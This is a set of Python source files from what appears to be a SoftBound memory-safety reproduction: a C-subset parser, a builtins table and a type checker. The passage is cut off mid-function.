    "setjmp": ct.FunctionType(ct.INT, (ct.PointerType(ct.LONG),)),
    "longjmp": ct.FunctionType(ct.VOID, (ct.PointerType(ct.LONG), ct.INT)),
    # SoftBound programmer interface (paper Section 5.2).
    "setbound": ct.FunctionType(ct.VOID, (ct.VOID_PTR, ct.LONG)),
    # va_list support (paper Section 5.2, variable argument functions).
    "va_start": ct.FunctionType(ct.VOID, (ct.PointerType(ct.VOID_PTR),)),
    "va_arg_long": ct.FunctionType(ct.LONG, (ct.PointerType(ct.VOID_PTR),)),
    "va_arg_ptr": ct.FunctionType(ct.VOID_PTR, (ct.PointerType(ct.VOID_PTR),)),
    "va_end": ct.FunctionType(ct.VOID, (ct.PointerType(ct.VOID_PTR),)),
}

BUILTIN_TYPEDEFS = {
    "jmp_buf": _JMP_BUF,
    "size_t": ct.ULONG,
    "va_list": ct.VOID_PTR,
}


def is_builtin(name):
    return name in BUILTIN_SIGNATURES
