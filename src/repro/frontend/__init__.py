"""C-subset frontend: lexer, parser, type system, type checker."""

from . import ast_nodes, ctypes_
from .errors import FrontendError, LexError, ParseError, TypeError_
from .lexer import tokenize
from .parser import parse
from .typecheck import check, parse_and_check

__all__ = [
    "ast_nodes",
    "ctypes_",
    "tokenize",
    "parse",
    "check",
    "parse_and_check",
    "FrontendError",
    "LexError",
    "ParseError",
    "TypeError_",
]
