"""Recursive-descent parser for the C subset.

The parser resolves type names eagerly (typedefs, struct/union tags and
enums live in parser-level symbol tables), so the AST it produces already
carries :mod:`repro.frontend.ctypes_` types on declarations.  Expression
types are assigned later by the type checker.

Grammar coverage: declarations with pointer/array/function declarators,
struct/union/enum definitions, typedefs, initializer lists, the full C
expression grammar (assignment, conditional, binary precedence ladder,
casts, unary, postfix), statements including ``switch``/``goto``, and
variadic function declarations.
"""

from . import ast_nodes as ast
from . import ctypes_ as ct
from .errors import ParseError
from .lexer import tokenize
from .tokens import (
    KIND_CHAR,
    KIND_EOF,
    KIND_FLOAT,
    KIND_IDENT,
    KIND_INT,
    KIND_KEYWORD,
    KIND_PUNCT,
    KIND_STRING,
)

_TYPE_KEYWORDS = frozenset(
    ["void", "char", "short", "int", "long", "float", "double", "signed", "unsigned", "struct", "union", "enum", "const"]
)

_ASSIGN_OPS = frozenset(["=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>="])

# Binary operator precedence, loosest first.
_BINARY_LEVELS = [
    ["||"],
    ["&&"],
    ["|"],
    ["^"],
    ["&"],
    ["==", "!="],
    ["<", ">", "<=", ">="],
    ["<<", ">>"],
    ["+", "-"],
    ["*", "/", "%"],
]


class Parser:
    def __init__(self, source):
        self.tokens = tokenize(source)
        self.pos = 0
        self.typedefs = {}
        self.struct_tags = {}
        self.enum_consts = {}

    # -- token helpers -------------------------------------------------

    def _peek(self, offset=0):
        i = min(self.pos + offset, len(self.tokens) - 1)
        return self.tokens[i]

    def _at(self, kind, value=None):
        tok = self._peek()
        return tok.kind == kind and (value is None or tok.value == value)

    def _at_punct(self, value):
        return self._at(KIND_PUNCT, value)

    def _at_keyword(self, value):
        return self._at(KIND_KEYWORD, value)

    def _advance(self):
        tok = self._peek()
        if tok.kind != KIND_EOF:
            self.pos += 1
        return tok

    def _expect(self, kind, value=None):
        tok = self._peek()
        if tok.kind != kind or (value is not None and tok.value != value):
            want = value if value is not None else kind
            raise ParseError(f"expected {want!r}, found {tok.value!r}", tok.line, tok.col)
        return self._advance()

    def _expect_punct(self, value):
        return self._expect(KIND_PUNCT, value)

    def _error(self, message):
        tok = self._peek()
        raise ParseError(message, tok.line, tok.col)

    # -- entry point ---------------------------------------------------

    def parse(self):
        unit = ast.TranslationUnit(decls=[])
        while not self._at(KIND_EOF):
            unit.decls.extend(self._parse_external_declaration())
        return unit

    # -- declarations ----------------------------------------------------

    def _starts_type(self):
        tok = self._peek()
        if tok.kind == KIND_KEYWORD and tok.value in _TYPE_KEYWORDS:
            return True
        if tok.kind == KIND_KEYWORD and tok.value in ("static", "extern", "typedef"):
            return True
        if tok.kind == KIND_IDENT and tok.value in self.typedefs:
            return True
        return False

    def _parse_external_declaration(self):
        """Returns a list of top-level Decl / FunctionDef nodes."""
        line, col = self._peek().line, self._peek().col
        storage = ""
        while self._peek().kind == KIND_KEYWORD and self._peek().value in ("static", "extern", "typedef"):
            storage = self._advance().value

        base = self._parse_type_specifier()

        # Bare "struct foo { ... };" style declaration.
        if self._at_punct(";"):
            self._advance()
            return []

        decls = []
        while True:
            name, ctype, params, varargs = self._parse_declarator(base)
            if isinstance(ctype, ct.FunctionType) and self._at_punct("{"):
                # Function definition.
                body = self._parse_block()
                func = ast.FunctionDef(
                    line=line,
                    col=col,
                    name=name,
                    return_type=ctype.return_type,
                    params=params,
                    varargs=varargs,
                    body=body,
                    storage=storage,
                )
                return decls + [func]
            if storage == "typedef":
                self.typedefs[name] = ctype
                decl = None
            else:
                init = None
                if self._at_punct("="):
                    self._advance()
                    init = self._parse_initializer()
                decl = ast.Decl(line=line, col=col, name=name, type=ctype, init=init, storage=storage)
            if decl is not None:
                decls.append(decl)
            if self._at_punct(","):
                self._advance()
                continue
            self._expect_punct(";")
            return decls

    def _parse_type_specifier(self):
        """Parse a type-specifier sequence and return a CType."""
        tok = self._peek()
        while self._at_keyword("const"):
            self._advance()
            tok = self._peek()
        if tok.kind == KIND_IDENT and tok.value in self.typedefs:
            self._advance()
            return self.typedefs[tok.value]
        if self._at_keyword("struct") or self._at_keyword("union"):
            return self._parse_struct_specifier()
        if self._at_keyword("enum"):
            return self._parse_enum_specifier()

        signed = None
        base = None
        long_count = 0
        saw_any = False
        while self._peek().kind == KIND_KEYWORD and self._peek().value in _TYPE_KEYWORDS:
            word = self._advance().value
            saw_any = True
            if word == "const":
                continue
            elif word == "signed":
                signed = True
            elif word == "unsigned":
                signed = False
            elif word == "long":
                long_count += 1
            elif word in ("void", "char", "short", "int", "float", "double"):
                base = word
        if not saw_any:
            self._error(f"expected type, found {tok.value!r}")
        if base == "void":
            return ct.VOID
        if base in ("float", "double"):
            return ct.DOUBLE if base == "double" else ct.FLOAT
        signed = True if signed is None else signed
        if base == "char":
            return ct.CHAR if signed else ct.UCHAR
        if base == "short":
            return ct.SHORT if signed else ct.USHORT
        if long_count:
            return ct.LONG if signed else ct.ULONG
        return ct.INT if signed else ct.UINT

    def _parse_struct_specifier(self):
        kw = self._advance()  # struct or union
        is_union = kw.value == "union"
        tag = ""
        if self._peek().kind == KIND_IDENT:
            tag = self._advance().value
        if self._at_punct("{"):
            self._advance()
            members = []
            while not self._at_punct("}"):
                base = self._parse_type_specifier()
                while True:
                    name, ctype, _params, _va = self._parse_declarator(base)
                    members.append((name, ctype))
                    if self._at_punct(","):
                        self._advance()
                        continue
                    break
                self._expect_punct(";")
            self._expect_punct("}")
            stype = self._lookup_or_create_struct(tag)
            if is_union:
                self._seal_union(stype, members)
            else:
                stype.seal(members)
            return stype
        if not tag:
            self._error("anonymous struct requires a body")
        return self._lookup_or_create_struct(tag)

    def _lookup_or_create_struct(self, tag):
        if tag and tag in self.struct_tags:
            return self.struct_tags[tag]
        stype = ct.StructType(tag=tag)
        if tag:
            self.struct_tags[tag] = stype
        return stype

    def _seal_union(self, stype, members):
        """Union layout: all fields at offset 0, size = max field size."""
        fields = []
        size = 0
        align = 1
        for name, ctype in members:
            fields.append(ct.Field(name, ctype, 0))
            size = max(size, ctype.size)
            align = max(align, ctype.align)
        stype.fields = tuple(fields)
        stype._size = ct.align_up(size, align)
        stype._align = align
        stype.complete = True

    def _parse_enum_specifier(self):
        self._advance()  # enum
        if self._peek().kind == KIND_IDENT:
            self._advance()  # tag, ignored: enums are just ints here
        if self._at_punct("{"):
            self._advance()
            next_value = 0
            while not self._at_punct("}"):
                name = self._expect(KIND_IDENT).value
                if self._at_punct("="):
                    self._advance()
                    next_value = self._parse_constant_int()
                self.enum_consts[name] = next_value
                next_value += 1
                if self._at_punct(","):
                    self._advance()
            self._expect_punct("}")
        return ct.INT

    def _parse_constant_int(self):
        """Constant expression evaluated at parse time (array sizes,
        enum values, case labels go through the checker instead)."""
        expr = self._parse_conditional()
        value = _eval_const(expr, self.enum_consts)
        if value is None:
            self._error("expected integer constant expression")
        return value

    def _parse_declarator(self, base):
        """Parse a declarator over ``base``.

        Returns ``(name, ctype, params, varargs)`` where ``params`` is a
        list of :class:`ast.ParamDecl` when ``ctype`` is a function type.
        """
        ctype = base
        while self._at_punct("*"):
            self._advance()
            while self._at_keyword("const"):
                self._advance()
            ctype = ct.PointerType(ctype)

        # Parenthesized declarator, e.g. int (*fp)(int).
        if self._at_punct("("):
            save = self.pos
            self._advance()
            if self._at_punct("*") or self._peek().kind == KIND_IDENT:
                inner_start = self.pos
                depth = 1
                while depth:
                    tok = self._advance()
                    if tok.kind == KIND_EOF:
                        self._error("unterminated declarator")
                    if tok.kind == KIND_PUNCT and tok.value == "(":
                        depth += 1
                    elif tok.kind == KIND_PUNCT and tok.value == ")":
                        depth -= 1
                inner_end = self.pos - 1
                ctype2, params, varargs = self._parse_declarator_suffix(ctype)
                saved_pos = self.pos
                self.pos = inner_start
                name, final_type, params2, va2 = self._parse_declarator_inner(ctype2)
                if self.pos != inner_end:
                    # Not actually a nested declarator; rewind.
                    self.pos = save
                else:
                    self.pos = saved_pos
                    return name, final_type, params2 or params, va2 or varargs
            else:
                self.pos = save

        name = ""
        if self._peek().kind == KIND_IDENT:
            name = self._advance().value
        ctype, params, varargs = self._parse_declarator_suffix(ctype)
        return name, ctype, params, varargs

    def _parse_declarator_inner(self, base):
        ctype = base
        while self._at_punct("*"):
            self._advance()
            ctype = ct.PointerType(ctype)
        name = ""
        if self._peek().kind == KIND_IDENT:
            name = self._advance().value
        ctype, params, varargs = self._parse_declarator_suffix(ctype)
        return name, ctype, params, varargs

    def _parse_declarator_suffix(self, ctype):
        params = []
        varargs = False
        if self._at_punct("("):
            self._advance()
            params, varargs, param_types = self._parse_param_list()
            self._expect_punct(")")
            ctype = ct.FunctionType(ctype, tuple(param_types), varargs)
            return ctype, params, varargs
        dims = []
        while self._at_punct("["):
            self._advance()
            if self._at_punct("]"):
                dims.append(None)  # incomplete array (param decay)
            else:
                dims.append(self._parse_constant_int())
            self._expect_punct("]")
        for dim in reversed(dims):
            length = dim if dim is not None else 0
            ctype = ct.ArrayType(ctype, length)
        return ctype, params, varargs

    def _parse_param_list(self):
        params = []
        types = []
        varargs = False
        if self._at_punct(")"):
            return params, varargs, types
        if self._at_keyword("void") and self._peek(1).kind == KIND_PUNCT and self._peek(1).value == ")":
            self._advance()
            return params, varargs, types
        while True:
            if self._at_punct("..."):
                self._advance()
                varargs = True
                break
            line, col = self._peek().line, self._peek().col
            base = self._parse_type_specifier()
            name, ctype, _p, _v = self._parse_declarator(base)
            # Array parameters decay to pointers; function params to fn ptrs.
            if ctype.is_array:
                ctype = ct.PointerType(ctype.element)
            elif ctype.is_function:
                ctype = ct.PointerType(ctype)
            params.append(ast.ParamDecl(line=line, col=col, name=name, type=ctype))
            types.append(ctype)
            if self._at_punct(","):
                self._advance()
                continue
            break
        return params, varargs, types

    def _parse_initializer(self):
        if self._at_punct("{"):
            line, col = self._peek().line, self._peek().col
            self._advance()
            items = []
            while not self._at_punct("}"):
                items.append(self._parse_initializer())
                if self._at_punct(","):
                    self._advance()
                else:
                    break
            self._expect_punct("}")
            return ast.InitList(line=line, col=col, items=items)
        return self._parse_assignment()

    # -- statements ------------------------------------------------------

    def _parse_block(self):
        line, col = self._peek().line, self._peek().col
        self._expect_punct("{")
        items = []
        while not self._at_punct("}"):
            if self._starts_type():
                items.extend(self._parse_local_declaration())
            else:
                items.append(self._parse_statement())
        self._expect_punct("}")
        return ast.Block(line=line, col=col, items=items)

    def _parse_local_declaration(self):
        line, col = self._peek().line, self._peek().col
        storage = ""
        while self._peek().kind == KIND_KEYWORD and self._peek().value in ("static", "extern", "typedef"):
            storage = self._advance().value
        base = self._parse_type_specifier()
        decls = []
        if self._at_punct(";"):  # bare struct declaration in a block
            self._advance()
            return decls
        while True:
            name, ctype, _params, _va = self._parse_declarator(base)
            if storage == "typedef":
                self.typedefs[name] = ctype
            else:
                init = None
                if self._at_punct("="):
                    self._advance()
                    init = self._parse_initializer()
                decls.append(ast.Decl(line=line, col=col, name=name, type=ctype, init=init, storage=storage))
            if self._at_punct(","):
                self._advance()
                continue
            self._expect_punct(";")
            return decls

    def _parse_statement(self):
        tok = self._peek()
        line, col = tok.line, tok.col
        if self._at_punct("{"):
            return self._parse_block()
        if self._at_punct(";"):
            self._advance()
            return ast.ExprStmt(line=line, col=col, expr=None)
        if tok.kind == KIND_KEYWORD:
            handler = {
                "if": self._parse_if,
                "while": self._parse_while,
                "do": self._parse_do,
                "for": self._parse_for,
                "return": self._parse_return,
                "switch": self._parse_switch,
                "goto": self._parse_goto,
            }.get(tok.value)
            if handler:
                return handler()
            if tok.value == "break":
                self._advance()
                self._expect_punct(";")
                return ast.Break(line=line, col=col)
            if tok.value == "continue":
                self._advance()
                self._expect_punct(";")
                return ast.Continue(line=line, col=col)
        if tok.kind == KIND_IDENT and self._peek(1).kind == KIND_PUNCT and self._peek(1).value == ":":
            name = self._advance().value
            self._advance()  # colon
            stmt = self._parse_statement()
            return ast.Label(line=line, col=col, name=name, stmt=stmt)
        expr = self._parse_expression()
        self._expect_punct(";")
        return ast.ExprStmt(line=line, col=col, expr=expr)

    def _parse_if(self):
        line, col = self._peek().line, self._peek().col
        self._advance()
        self._expect_punct("(")
        cond = self._parse_expression()
        self._expect_punct(")")
        then = self._parse_statement()
        otherwise = None
        if self._at_keyword("else"):
            self._advance()
            otherwise = self._parse_statement()
        return ast.If(line=line, col=col, cond=cond, then=then, otherwise=otherwise)

    def _parse_while(self):
        line, col = self._peek().line, self._peek().col
        self._advance()
        self._expect_punct("(")
        cond = self._parse_expression()
        self._expect_punct(")")
        body = self._parse_statement()
        return ast.While(line=line, col=col, cond=cond, body=body)

    def _parse_do(self):
        line, col = self._peek().line, self._peek().col
        self._advance()
        body = self._parse_statement()
        self._expect(KIND_KEYWORD, "while")
        self._expect_punct("(")
        cond = self._parse_expression()
        self._expect_punct(")")
        self._expect_punct(";")
        return ast.DoWhile(line=line, col=col, body=body, cond=cond)

    def _parse_for(self):
        line, col = self._peek().line, self._peek().col
        self._advance()
        self._expect_punct("(")
        init = None
        if self._starts_type():
            decls = self._parse_local_declaration()  # consumes ';'
            init = decls
        elif not self._at_punct(";"):
            init = self._parse_expression()
            self._expect_punct(";")
        else:
            self._advance()
        cond = None
        if not self._at_punct(";"):
            cond = self._parse_expression()
        self._expect_punct(";")
        step = None
        if not self._at_punct(")"):
            step = self._parse_expression()
        self._expect_punct(")")
        body = self._parse_statement()
        return ast.For(line=line, col=col, init=init, cond=cond, step=step, body=body)

    def _parse_return(self):
        line, col = self._peek().line, self._peek().col
        self._advance()
        value = None
        if not self._at_punct(";"):
            value = self._parse_expression()
        self._expect_punct(";")
        return ast.Return(line=line, col=col, value=value)

    def _parse_switch(self):
        line, col = self._peek().line, self._peek().col
        self._advance()
        self._expect_punct("(")
        cond = self._parse_expression()
        self._expect_punct(")")
        self._expect_punct("{")
        cases = []
        while not self._at_punct("}"):
            cline, ccol = self._peek().line, self._peek().col
            if self._at_keyword("case"):
                self._advance()
                value = self._parse_conditional()
                self._expect_punct(":")
                case = ast.Case(line=cline, col=ccol, value=value, stmts=[])
            elif self._at_keyword("default"):
                self._advance()
                self._expect_punct(":")
                case = ast.Case(line=cline, col=ccol, value=None, stmts=[])
            else:
                if not cases:
                    self._error("statement before first case label")
                cases[-1].stmts.append(self._parse_statement())
                continue
            cases.append(case)
        self._expect_punct("}")
        body = ast.Block(line=line, col=col, items=cases)
        return ast.Switch(line=line, col=col, cond=cond, body=body)

    def _parse_goto(self):
        line, col = self._peek().line, self._peek().col
        self._advance()
        label = self._expect(KIND_IDENT).value
        self._expect_punct(";")
        return ast.Goto(line=line, col=col, label=label)

    # -- expressions -------------------------------------------------------

    def _parse_expression(self):
        expr = self._parse_assignment()
        while self._at_punct(","):
            line, col = self._peek().line, self._peek().col
            self._advance()
            right = self._parse_assignment()
            expr = ast.Binary(line=line, col=col, op=",", left=expr, right=right)
        return expr

    def _parse_assignment(self):
        left = self._parse_conditional()
        tok = self._peek()
        if tok.kind == KIND_PUNCT and tok.value in _ASSIGN_OPS:
            self._advance()
            value = self._parse_assignment()
            return ast.Assign(line=tok.line, col=tok.col, op=tok.value, target=left, value=value)
        return left

    def _parse_conditional(self):
        cond = self._parse_binary(0)
        if self._at_punct("?"):
            line, col = self._peek().line, self._peek().col
            self._advance()
            then = self._parse_expression()
            self._expect_punct(":")
            otherwise = self._parse_conditional()
            return ast.Conditional(line=line, col=col, cond=cond, then=then, otherwise=otherwise)
        return cond

    def _parse_binary(self, level):
        if level >= len(_BINARY_LEVELS):
            return self._parse_cast()
        left = self._parse_binary(level + 1)
        ops = _BINARY_LEVELS[level]
        while self._peek().kind == KIND_PUNCT and self._peek().value in ops:
            tok = self._advance()
            right = self._parse_binary(level + 1)
            left = ast.Binary(line=tok.line, col=tok.col, op=tok.value, left=left, right=right)
        return left

    def _parse_cast(self):
        if self._at_punct("(") and self._type_follows(1):
            line, col = self._peek().line, self._peek().col
            self._advance()
            ctype = self._parse_type_name()
            self._expect_punct(")")
            operand = self._parse_cast()
            return ast.Cast(line=line, col=col, target_type=ctype, operand=operand)
        return self._parse_unary()

    def _type_follows(self, offset):
        tok = self._peek(offset)
        if tok.kind == KIND_KEYWORD and tok.value in _TYPE_KEYWORDS:
            return True
        return tok.kind == KIND_IDENT and tok.value in self.typedefs

    def _parse_type_name(self):
        base = self._parse_type_specifier()
        ctype = base
        while self._at_punct("*"):
            self._advance()
            ctype = ct.PointerType(ctype)
        # Abstract array/function suffixes in casts are rare; support [N].
        while self._at_punct("["):
            self._advance()
            length = self._parse_constant_int()
            self._expect_punct("]")
            ctype = ct.ArrayType(ctype, length)
        if self._at_punct("(") and self._peek(1).kind == KIND_PUNCT and self._peek(1).value == "*":
            # function-pointer type name like void (*)(int)
            self._advance()
            self._expect_punct("*")
            self._expect_punct(")")
            self._expect_punct("(")
            _params, varargs, types = self._parse_param_list()
            self._expect_punct(")")
            ctype = ct.PointerType(ct.FunctionType(ctype, tuple(types), varargs))
        return ctype

    def _parse_unary(self):
        tok = self._peek()
        line, col = tok.line, tok.col
        if tok.kind == KIND_PUNCT and tok.value in ("-", "+", "!", "~", "*", "&"):
            self._advance()
            operand = self._parse_cast()
            if tok.value == "+":
                return operand
            return ast.Unary(line=line, col=col, op=tok.value, operand=operand)
        if tok.kind == KIND_PUNCT and tok.value in ("++", "--"):
            self._advance()
            operand = self._parse_unary()
            return ast.Unary(line=line, col=col, op=tok.value + "pre", operand=operand)
        if self._at_keyword("sizeof"):
            self._advance()
            if self._at_punct("(") and self._type_follows(1):
                self._advance()
                ctype = self._parse_type_name()
                self._expect_punct(")")
                return ast.SizeofType(line=line, col=col, target_type=ctype)
            operand = self._parse_unary()
            return ast.SizeofExpr(line=line, col=col, operand=operand)
        return self._parse_postfix()

    def _parse_postfix(self):
        expr = self._parse_primary()
        while True:
            tok = self._peek()
            if self._at_punct("["):
                self._advance()
                index = self._parse_expression()
                self._expect_punct("]")
                expr = ast.Index(line=tok.line, col=tok.col, base=expr, index=index)
            elif self._at_punct("("):
                self._advance()
                args = []
                if not self._at_punct(")"):
                    args.append(self._parse_assignment())
                    while self._at_punct(","):
                        self._advance()
                        args.append(self._parse_assignment())
                self._expect_punct(")")
                expr = ast.Call(line=tok.line, col=tok.col, func=expr, args=args)
            elif self._at_punct("."):
                self._advance()
                name = self._expect(KIND_IDENT).value
                expr = ast.Member(line=tok.line, col=tok.col, base=expr, name=name, arrow=False)
            elif self._at_punct("->"):
                self._advance()
                name = self._expect(KIND_IDENT).value
                expr = ast.Member(line=tok.line, col=tok.col, base=expr, name=name, arrow=True)
            elif self._at_punct("++") or self._at_punct("--"):
                self._advance()
                expr = ast.Unary(line=tok.line, col=tok.col, op="post" + tok.value, operand=expr)
            else:
                return expr

    def _parse_primary(self):
        tok = self._peek()
        line, col = tok.line, tok.col
        if tok.kind == KIND_INT:
            self._advance()
            return ast.IntLiteral(line=line, col=col, value=tok.value)
        if tok.kind == KIND_FLOAT:
            self._advance()
            return ast.FloatLiteral(line=line, col=col, value=tok.value)
        if tok.kind == KIND_CHAR:
            self._advance()
            return ast.CharLiteral(line=line, col=col, value=tok.value)
        if tok.kind == KIND_STRING:
            self._advance()
            data = tok.value
            # Adjacent string literals concatenate.
            while self._peek().kind == KIND_STRING:
                data += self._advance().value
            return ast.StringLiteral(line=line, col=col, value=data)
        if tok.kind == KIND_KEYWORD and tok.value == "NULL":
            self._advance()
            lit = ast.IntLiteral(line=line, col=col, value=0)
            return ast.Cast(line=line, col=col, target_type=ct.VOID_PTR, operand=lit)
        if tok.kind == KIND_IDENT:
            self._advance()
            if tok.value in self.enum_consts:
                ident = ast.Identifier(line=line, col=col, name=tok.value, binding="enum_const")
                ident.enum_value = self.enum_consts[tok.value]
                return ident
            return ast.Identifier(line=line, col=col, name=tok.value)
        if self._at_punct("("):
            self._advance()
            expr = self._parse_expression()
            self._expect_punct(")")
            return expr
        self._error(f"unexpected token {tok.value!r}")


def _eval_const(expr, enum_consts):
    """Best-effort constant folding for parse-time constants."""
    if isinstance(expr, ast.IntLiteral):
        return expr.value
    if isinstance(expr, ast.CharLiteral):
        return expr.value
    if isinstance(expr, ast.SizeofType):
        return expr.target_type.size
    if isinstance(expr, ast.Identifier) and expr.binding == "enum_const":
        return expr.enum_value
    if isinstance(expr, ast.Identifier) and expr.name in enum_consts:
        return enum_consts[expr.name]
    if isinstance(expr, ast.Unary):
        val = _eval_const(expr.operand, enum_consts)
        if val is None:
            return None
        return {"-": lambda v: -v, "~": lambda v: ~v, "!": lambda v: int(not v)}.get(expr.op, lambda v: None)(val)
    if isinstance(expr, ast.Binary):
        left = _eval_const(expr.left, enum_consts)
        right = _eval_const(expr.right, enum_consts)
        if left is None or right is None:
            return None
        ops = {
            "+": lambda a, b: a + b,
            "-": lambda a, b: a - b,
            "*": lambda a, b: a * b,
            "/": lambda a, b: a // b if b else None,
            "%": lambda a, b: a % b if b else None,
            "<<": lambda a, b: a << b,
            ">>": lambda a, b: a >> b,
            "|": lambda a, b: a | b,
            "&": lambda a, b: a & b,
            "^": lambda a, b: a ^ b,
        }
        fn = ops.get(expr.op)
        return fn(left, right) if fn else None
    return None


def parse(source):
    """Parse C source text into an untyped :class:`ast.TranslationUnit`."""
    return Parser(source).parse()
