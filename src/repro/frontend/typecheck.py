"""Type checker / semantic analysis.

Annotates every expression node with its :class:`~repro.frontend.ctypes_`
type (the ``ctype`` attribute), resolves identifier bindings, computes
struct member offsets (including the sub-object extents SoftBound's
bound-shrinking uses), inserts array/function decay markers, and applies
the usual arithmetic conversions.

The checker is deliberately permissive where C is permissive — arbitrary
pointer casts, pointer/integer mixing and implicitly declared functions
are all accepted, because tolerating such code without source changes is
precisely the compatibility property the paper claims (Sections 1, 5.2).
It still rejects genuinely malformed programs (unknown variables, calling
non-functions, member access on non-structs, arity underflow on
prototyped calls).
"""

from . import ast_nodes as ast
from . import ctypes_ as ct
from .builtins import BUILTIN_SIGNATURES, BUILTIN_TYPEDEFS
from .errors import TypeError_


class Scope:
    """A lexical scope mapping names to (CType, binding-kind)."""

    def __init__(self, parent=None):
        self.parent = parent
        self.names = {}

    def define(self, name, ctype, kind):
        self.names[name] = (ctype, kind)

    def lookup(self, name):
        scope = self
        while scope is not None:
            if name in scope.names:
                return scope.names[name]
            scope = scope.parent
        return None


class TypedProgram:
    """Result of checking: the annotated AST plus symbol information."""

    def __init__(self, unit, globals_, functions):
        self.unit = unit
        self.globals = globals_  # name -> Decl
        self.functions = functions  # name -> FunctionDef


class TypeChecker:
    def __init__(self, unit):
        self.unit = unit
        self.global_scope = Scope()
        self.functions = {}
        self.globals = {}
        self.current_return_type = None
        for name, sig in BUILTIN_SIGNATURES.items():
            self.global_scope.define(name, sig, "function")

    def check(self):
        # Pass 1: collect global declarations and function signatures so
        # forward references work.
        for decl in self.unit.decls:
            if isinstance(decl, ast.FunctionDef):
                ftype = ct.FunctionType(
                    decl.return_type, tuple(p.type for p in decl.params), decl.varargs
                )
                self.global_scope.define(decl.name, ftype, "function")
                self.functions[decl.name] = decl
            elif isinstance(decl, ast.Decl):
                if isinstance(decl.type, ct.FunctionType):
                    self.global_scope.define(decl.name, decl.type, "function")
                else:
                    self.global_scope.define(decl.name, decl.type, "global")
                    if decl.storage != "extern":
                        self.globals[decl.name] = decl
        # Pass 2: check bodies and global initializers.
        for decl in self.unit.decls:
            if isinstance(decl, ast.FunctionDef):
                self._check_function(decl)
            elif isinstance(decl, ast.Decl) and decl.init is not None:
                decl.init = self._check_initializer(decl.init, decl.type)
        return TypedProgram(self.unit, self.globals, self.functions)

    # -- declarations ---------------------------------------------------

    def _check_function(self, func):
        scope = Scope(self.global_scope)
        seen_params = set()
        for param in func.params:
            if not param.name:
                raise TypeError_(f"unnamed parameter in {func.name}", func.line, func.col)
            if param.name in seen_params:
                raise TypeError_(
                    f"duplicate parameter name '{param.name}' in {func.name}",
                    func.line, func.col)
            seen_params.add(param.name)
            scope.define(param.name, param.type, "param")
        self.current_return_type = func.return_type
        self._loop_depth = 0
        self._breakable_depth = 0
        self._check_block(func.body, scope)
        self.current_return_type = None

    def _check_loop_body(self, body, scope):
        self._loop_depth += 1
        self._breakable_depth += 1
        try:
            self._check_stmt(body, scope)
        finally:
            self._loop_depth -= 1
            self._breakable_depth -= 1

    def _check_block(self, block, scope):
        inner = Scope(scope)
        for item in block.items:
            if isinstance(item, ast.Decl):
                self._check_local_decl(item, inner)
            else:
                self._check_stmt(item, inner)

    def _check_local_decl(self, decl, scope):
        if decl.type.is_void:
            raise TypeError_(f"variable {decl.name!r} has void type", decl.line, decl.col)
        scope.define(decl.name, decl.type, "local")
        if decl.init is not None:
            decl.init = self._check_initializer(decl.init, decl.type, scope)

    def _check_initializer(self, init, target_type, scope=None):
        scope = scope or self.global_scope
        if isinstance(init, ast.InitList):
            init.ctype = target_type
            if target_type.is_array:
                if target_type.length and len(init.items) > target_type.length:
                    raise TypeError_("too many initializers", init.line, init.col)
                init.items = [
                    self._check_initializer(item, target_type.element, scope)
                    for item in init.items
                ]
            elif target_type.is_struct:
                if len(init.items) > len(target_type.fields):
                    raise TypeError_("too many initializers", init.line, init.col)
                init.items = [
                    self._check_initializer(item, fld.type, scope)
                    for item, fld in zip(init.items, target_type.fields)
                ]
            else:
                if len(init.items) != 1:
                    raise TypeError_("scalar initializer list", init.line, init.col)
                init.items = [self._check_initializer(init.items[0], target_type, scope)]
            return init
        # char arr[] = "..." / char arr[N] = "..."
        if isinstance(init, ast.StringLiteral) and target_type.is_array:
            init.ctype = ct.ArrayType(ct.CHAR, len(init.value) + 1)
            return init
        self._check_expr(init, scope)
        converted = self._decay(init, scope)
        if not ct.types_compatible(target_type, converted.ctype):
            raise TypeError_(
                f"cannot initialize {target_type} from {converted.ctype}", init.line, init.col
            )
        return converted

    # -- statements -------------------------------------------------------

    def _check_stmt(self, stmt, scope):
        if isinstance(stmt, ast.Block):
            self._check_block(stmt, scope)
        elif isinstance(stmt, ast.ExprStmt):
            if stmt.expr is not None:
                self._check_expr(stmt.expr, scope)
                stmt.expr = self._decay(stmt.expr, scope)
        elif isinstance(stmt, ast.If):
            self._check_cond(stmt, "cond", scope)
            self._check_stmt(stmt.then, scope)
            if stmt.otherwise:
                self._check_stmt(stmt.otherwise, scope)
        elif isinstance(stmt, ast.While):
            self._check_cond(stmt, "cond", scope)
            self._check_loop_body(stmt.body, scope)
        elif isinstance(stmt, ast.DoWhile):
            self._check_loop_body(stmt.body, scope)
            self._check_cond(stmt, "cond", scope)
        elif isinstance(stmt, ast.For):
            inner = Scope(scope)
            if isinstance(stmt.init, list):
                for decl in stmt.init:
                    self._check_local_decl(decl, inner)
            elif stmt.init is not None:
                self._check_expr(stmt.init, inner)
                stmt.init = self._decay(stmt.init, inner)
            if stmt.cond is not None:
                self._check_cond(stmt, "cond", inner)
            if stmt.step is not None:
                self._check_expr(stmt.step, inner)
                stmt.step = self._decay(stmt.step, inner)
            self._check_loop_body(stmt.body, inner)
        elif isinstance(stmt, ast.Return):
            if stmt.value is not None:
                self._check_expr(stmt.value, scope)
                stmt.value = self._decay(stmt.value, scope)
                if self.current_return_type.is_void:
                    raise TypeError_("return with value in void function", stmt.line, stmt.col)
                if not ct.types_compatible(self.current_return_type, stmt.value.ctype):
                    raise TypeError_(
                        f"cannot return {stmt.value.ctype} as {self.current_return_type}",
                        stmt.line,
                        stmt.col,
                    )
            elif not self.current_return_type.is_void:
                raise TypeError_("return without value in non-void function", stmt.line, stmt.col)
        elif isinstance(stmt, ast.Break):
            if self._breakable_depth == 0:
                raise TypeError_("'break' outside of loop or switch",
                                 stmt.line, stmt.col)
        elif isinstance(stmt, ast.Continue):
            if self._loop_depth == 0:
                raise TypeError_("'continue' outside of loop", stmt.line, stmt.col)
        elif isinstance(stmt, ast.Goto):
            pass
        elif isinstance(stmt, ast.Label):
            self._check_stmt(stmt.stmt, scope)
        elif isinstance(stmt, ast.Switch):
            self._check_expr(stmt.cond, scope)
            stmt.cond = self._decay(stmt.cond, scope)
            if not stmt.cond.ctype.is_integer:
                raise TypeError_("switch condition must be integer", stmt.line, stmt.col)
            self._breakable_depth += 1
            try:
                for case in stmt.body.items:
                    if case.value is not None:
                        self._check_expr(case.value, scope)
                    for sub in case.stmts:
                        self._check_stmt(sub, scope)
            finally:
                self._breakable_depth -= 1
        else:
